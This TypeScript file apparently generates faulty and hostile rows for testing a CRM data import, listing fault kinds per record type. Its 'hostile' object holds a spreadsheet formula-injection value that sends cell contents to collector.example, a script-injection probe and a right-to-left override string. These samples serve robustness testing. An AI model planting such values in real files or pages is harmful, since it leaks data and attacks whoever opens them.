/** What can be wrong, or hostile, in one row of each file. A dirty row carries exactly one of these. */
export const dirtKinds = {
  companies: ['homonym', 'bad-number', 'formula', 'script', 'ragged-long', 'ragged-short', 'duplicate-id', 'very-long', 'quotes-and-newlines'],
  contacts: ['duplicate-contact', 'dummy-email', 'no-email', 'bad-email', 'spaced-email', 'duplicate-id', 'ragged-long', 'ragged-short', 'bad-date',
    'formula', 'script', 'right-to-left', 'very-long', 'quotes-and-newlines', 'nul-byte', 'no-name'],
  deals: ['no-contact-with-company', 'no-contact-no-company', 'unknown-contact', 'bad-amount', 'bad-date', 'foreign-currency', 'no-title',
    'formula', 'script', 'ragged-long', 'ragged-short', 'duplicate-id'],
  emails: ['no-message-id', 'no-date', 'bad-date', 'unknown-charset', 'truncated', 'duplicate', 'script', 'very-long', 'no-recipients', 'no-subject', 'from-line'],
  calls: ['no-parent', 'unknown-parent', 'bad-duration', 'bad-date', 'script', 'duplicate-id', 'ragged-long'],
  meetings: ['bad-date', 'end-before-start', 'no-title', 'unknown-zone', 'bad-attendee', 'script', 'duplicate-id'],
  tasks: ['no-title', 'bad-date', 'no-parent', 'unknown-parent', 'formula', 'duplicate-id'],
  files: ['missing', 'wrong-hash', 'wrong-size', 'outside-path', 'no-parent', 'unknown-parent', 'empty', 'duplicate-id'],
  record_tags: ['unknown-record', 'empty-tag', 'repeated'],
  list_memberships: ['unknown-list', 'unknown-contact', 'repeated'],
  notes: ['no-parent', 'company-only', 'unknown-parent', 'bad-date', 'empty-body', 'script', 'very-long', 'ragged-long', 'duplicate-id'],
} as const;

export type DirtyFile = keyof typeof dirtKinds;
export type DirtKind<File extends DirtyFile = DirtyFile> = (typeof dirtKinds)[File][number];

/**
 * The dirt of row `index`, or null. Dirty rows are spread evenly and take the kinds in turn, so even a small bundle has
 * every kind, and the dirt of any row is known without the rows before it.
 */
export function dirtOf<File extends DirtyFile>(file: File, index: number, share: number): DirtKind<File> | null {
  const ordinal = Math.floor(index * share);
  if (Math.floor((index + 1) * share) === ordinal) return null;
  const kinds: readonly DirtKind<File>[] = dirtKinds[file];
  return kinds[ordinal % kinds.length] ?? null;
}

export const hostile = {
  formula: '=HYPERLINK("http://collector.example/?"&A1,"click")',
  script: '<script>alert("portolan")</script>',
  rightToLeft: '\u202eשלום \u0645\u0631\u062d\u0628\u0627\u202c',
  quotesAndNewlines: 'He said "yes";\nthen, after a comma,\r\n"no"',
  long: (text: string): string => text.repeat(Math.ceil(10_000 / text.length)).slice(0, 10_000).trimEnd().padEnd(10_000, '.'),
} as const;
